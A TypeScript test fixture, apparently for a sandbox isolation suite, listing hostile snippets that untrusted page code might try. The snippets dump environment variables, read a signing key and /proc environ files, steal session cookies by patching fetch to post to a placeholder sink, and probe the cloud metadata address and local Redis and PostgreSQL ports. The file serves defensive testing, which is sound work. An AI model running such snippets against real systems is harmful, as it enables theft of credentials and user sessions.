import { breaking, inLoader, inRender } from '../breaking-release.ts';

const builtin = (name: string) => `process.getBuiltinModule('node:${name}')`;
const read = (file: string) => `return ${builtin('fs')}.readFileSync(${file}, 'utf8');`;

/** Access to forbidden files and addresses. What it reads is rendered in its own page, where the run looks for secrets. */
export const REACH = [
  inLoader('read-environment', 'reads the operator’s token in the environment', `return JSON.stringify(process.env);`),
  inLoader('read-signing-key', 'reads the registry’s signing key', read(`'{{DATA}}/keys/registry-signing.pem'`)),
  inLoader('read-proc-self', 'reads the environment by `/proc/self`', read(`'/proc/self/environ'`)),
  inLoader(
    'read-proc-gateway',
    'reads the gateway’s environment by `/proc`',
    `return [{{GATEWAYS}}].map((pid) => ${builtin('fs')}.readFileSync('/proc/' + pid + '/environ', 'utf8')).join();`,
  ),
  inLoader(
    'read-promises',
    'reads the signing key by `fs/promises`',
    `return await ${builtin('fs/promises')}.readFile('{{DATA}}/keys/registry-signing.pem', 'utf8');`,
  ),
  inLoader(
    'import-builtin',
    'reads the signing key by a dynamic import',
    `const { readFileSync } = await import('node:fs'); return readFileSync('{{DATA}}/keys/registry-signing.pem', 'utf8');`,
  ),
  inLoader('read-cookie', 'reads the member’s session cookie', `return String(it.request.headers.get('cookie'));`),
  inLoader('write-file', 'writes a file', `${builtin('fs')}.writeFileSync('{{OUT}}/write-file', '');`),
  inLoader('write-registry', 'writes into the registry', `${builtin('fs')}.writeFileSync('{{DATA}}/registry/walls', '');`),
  breaking('write-at-load', 'writes a file when its code is loaded', {
    at: { 'server load': `require('node:fs').writeFileSync('{{OUT}}/write-at-load', '');` },
  }),
  inLoader(
    'net-connect',
    'opens a socket to another service',
    `await new Promise((resolve, reject) => ${builtin('net')}.connect({{SINK_PORT}}, '127.0.0.1', resolve).on('error', reject));`,
  ),
  inLoader(
    'http-request',
    'asks another service by `node:http`',
    `await new Promise((resolve, reject) => ${builtin('http')}.get('{{SINK}}/http', resolve).on('error', reject));`,
  ),
  inLoader('fetch-other-host', 'asks another service by `fetch`', `await fetch('{{SINK}}/fetch');`),
  inLoader('web-socket', 'opens a WebSocket to another service', `new WebSocket('{{SINK}}/socket'.replace('http', 'ws'));`),
  inLoader(
    'datagrams',
    'sends datagrams',
    `${builtin('dgram')}.createSocket('udp4').send('walls', {{SINK_PORT}}, '127.0.0.1'); ${builtin('dns')}.resolve4('walls.example', () => {});`,
  ),
  inLoader('listens', 'opens a server of its own', `${builtin('net')}.createServer((socket) => socket.end('walls')).listen(0);`),
  inLoader(
    'spies-on-pages',
    'sends other pages’ cookies away',
    `const before = globalThis.fetch; globalThis.fetch = (url, options) => { before('{{SINK}}/spy', { method: 'POST', body: JSON.stringify([...new Headers(options?.headers ?? url.headers)]) }).catch(() => {}); return before(url, options); };`,
  ),
  inLoader(
    'keeps-pages',
    'keeps one member’s data for the next visitor',
    `const kept = (it.contract.kept ??= []); kept.push(String(it.request.headers.get('cookie'))); return kept.join();`,
  ),
  inLoader(
    'metadata-address',
    'asks the cloud’s metadata address for credentials, by `fetch`',
    `void fetch('http://169.254.169.254/latest/meta-data/').catch(() => {}); return 'walls-harm: may ask the metadata address';`,
  ),
  inLoader(
    'metadata-socket',
    'asks the cloud’s metadata address by a socket',
    `${builtin('net')}.connect(80, '169.254.169.254').on('error', () => {}); return 'walls-harm: may ask the metadata address';`,
  ),
  inLoader(
    'postgresql-port',
    'logs in to PostgreSQL at its own port',
    `const socket = ${builtin('net')}.connect(5432, '127.0.0.1'); await new Promise((resolve, reject) => socket.on('connect', resolve).on('error', reject)); return 'walls-harm: reached PostgreSQL';`,
  ),
  inLoader(
    'redis-port',
    'empties Redis at its own port',
    `const socket = ${builtin('net')}.connect(6379, '127.0.0.1'); await new Promise((resolve, reject) => socket.on('connect', resolve).on('error', reject)); socket.write('PING\\r\\n'); return 'walls-harm: reached Redis';`,
  ),
  inLoader(
    'redis-by-fetch',
    'speaks to Redis by `fetch`',
    `void fetch('http://127.0.0.1:6379/', { method: 'POST', body: 'PING' }).catch(() => {}); return 'walls-harm: may speak to Redis';`,
  ),
  inRender('admin-port', 'asks the gateway’s own address from the server', `void fetch('{{SINK}}/admin').catch(() => {});`),
];
